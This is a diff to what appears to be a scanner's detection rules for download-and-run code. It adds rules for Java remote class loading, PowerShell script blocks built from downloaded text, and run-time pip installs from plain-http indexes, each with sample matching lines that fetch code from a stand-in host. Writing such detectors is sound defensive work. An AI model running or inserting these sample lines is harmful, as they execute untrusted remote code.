@@ -12,6 +12,7 @@ import {
   go,
   inside,
   is,
+  java,
   js,
   near,
   php,
@@ -50,6 +51,7 @@ const hiddenFolder = is(
     'os.tempdir',
     'programdata',
     'mkdtemp',
+    'createtempfile',
     'env.temp',
     'env.appdata',
   ],
@@ -451,6 +453,57 @@ export const downloadRun: RuleSet = {
         ),
       ],
       misses: [py("urllib.request.urlretrieve('https://example.org/a', target)\nsubprocess.run([target])")],
+    },
+    {
+      id: id('class-loader'),
+      severity: 'high',
+      why: 'Loads classes straight from an address.',
+      when: near(
+        3,
+        is(['urlclassloader('], null, { families: ['java'] }),
+        is(['url('], /(?<!\w)URL\(\s{0,4}"https?:\/\/(?!localhost|127\.)/),
+        is(['loadclass', 'newinstance', 'forname'], null),
+      ),
+      matches: [
+        java(
+          'URLClassLoader cl = new URLClassLoader(new URL[] { new URL("http://x.example.invalid/p.jar") });\ncl.loadClass("P").newInstance();',
+        ),
+      ],
+      misses: [java('URLClassLoader cl = new URLClassLoader(new URL[] { jar.toURI().toURL() });\ncl.loadClass(name);')],
+    },
+    {
+      id: id('script-block'),
+      severity: 'high',
+      why: 'Makes a script block of downloaded text.',
+      when: statement(
+        is(['scriptblock]::create'], null),
+        is(['downloadstring(', 'invoke-webrequest', 'invoke-restmethod', 'iwr ', 'irm '], null),
+      ),
+      matches: [ps('& ([scriptblock]::Create((New-Object Net.WebClient).DownloadString($u)))')],
+      misses: [ps('& ([scriptblock]::Create($text))')],
+    },
+    {
+      id: id('package-at-run-time'),
+      severity: 'high',
+      why: 'A program installs a package from a plain http address while it runs.',
+      when: inside(
+        ['py', 'js', 'rb', 'go'],
+        near(
+          2,
+          is(
+            ['index-url', '--registry', '--source', 'git+http:'],
+            /(?:index-url|--registry|--source)["',=\s]{1,4}http:\/\/(?!localhost|127\.)|git\+http:/,
+          ),
+          'exec',
+          is(['install'], null),
+        ),
+      ),
+      matches: [
+        py(
+          'subprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url", "http://x.example.invalid/simple", "a"])',
+        ),
+      ],
+      misses: [py('subprocess.check_call([sys.executable, "-m", "pip", "install", "-r", "requirements.txt"])')],
     },
     {
       id: id('paste-run'),
